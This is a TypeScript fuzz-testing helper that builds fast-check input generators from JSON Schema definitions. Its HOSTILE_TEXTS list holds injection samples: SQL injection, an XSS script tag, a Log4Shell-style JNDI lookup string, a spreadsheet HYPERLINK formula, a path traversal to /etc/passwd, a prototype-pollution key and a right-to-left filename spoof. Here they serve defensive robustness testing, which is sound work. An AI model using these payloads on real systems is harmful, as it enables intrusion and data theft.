import fc from 'fast-check'

/** The part of JSON Schema that the contract's document uses. */
export interface JsonSchema {
  type?: string
  const?: unknown
  enum?: unknown[]
  anyOf?: JsonSchema[]
  oneOf?: JsonSchema[]
  properties?: Record<string, JsonSchema>
  required?: string[]
  items?: JsonSchema
  pattern?: string
  minLength?: number
  maxLength?: number
  minimum?: number
  maximum?: number
  minItems?: number
  maxItems?: number
  default?: unknown
}

/** Inputs of a schema's shape: right in type and range, wild in content. */
export function inputOf(schema: JsonSchema): fc.Arbitrary<unknown> {
  if ('const' in schema) return fc.constant(schema.const)
  if (schema.enum) return fc.constantFrom(...schema.enum)
  const choices = schema.anyOf ?? schema.oneOf
  if (choices) return fc.oneof(...choices.map(inputOf))
  switch (schema.type) {
    case 'string':
      return textOf(schema)
    case 'integer':
      return fc.integer({ min: Math.max(schema.minimum ?? -1e9, -1e9), max: Math.min(schema.maximum ?? 1e9, 1e9) })
    case 'number':
      return fc.double({
        noNaN: true,
        noDefaultInfinity: true,
        min: Math.max(schema.minimum ?? -1e9, -1e9),
        max: Math.min(schema.maximum ?? 1e9, 1e9),
      })
    case 'boolean':
      return fc.boolean()
    case 'array':
      return fc.array(inputOf(schema.items ?? {}), {
        minLength: schema.minItems ?? 0,
        maxLength: Math.min(schema.maxItems ?? 4, 4),
      })
    case 'object':
      return fc.record(
        Object.fromEntries(Object.entries(schema.properties ?? {}).map(([name, field]) => [name, inputOf(field)])),
        { requiredKeys: schema.required ?? [] },
      )
    default:
      return fc.jsonValue({ maxDepth: 2 })
  }
}

function textOf({ pattern, minLength = 0, maxLength = 60 }: JsonSchema): fc.Arbitrary<string> {
  // A pattern with Unicode classes is the one of typed text: any text is tried, hostile or not.
  if (pattern && !pattern.includes('\\p{')) return fc.stringMatching(new RegExp(pattern))
  const max = Math.min(maxLength, 200)
  return fc.oneof(
    fc.string({ unit: 'grapheme', minLength: Math.min(minLength, max), maxLength: max }),
    fc.constantFrom(...HOSTILE_TEXTS),
  )
}

/** Texts that have broken other systems. */
export const HOSTILE_TEXTS = [
  '',
  ' ',
  '\u0000',
  '__proto__',
  'constructor',
  "' OR 1=1 --",
  '<script>alert(1)</script>',
  '=HYPERLINK("http://example.test")',
  '../../etc/passwd',
  '$' + '{jndi:ldap://example.test}',
  '\u202Egnp.exe',
  '👩‍👩‍👧‍👦'.repeat(10),
  '𠮷野家',
  'a'.repeat(5000),
]
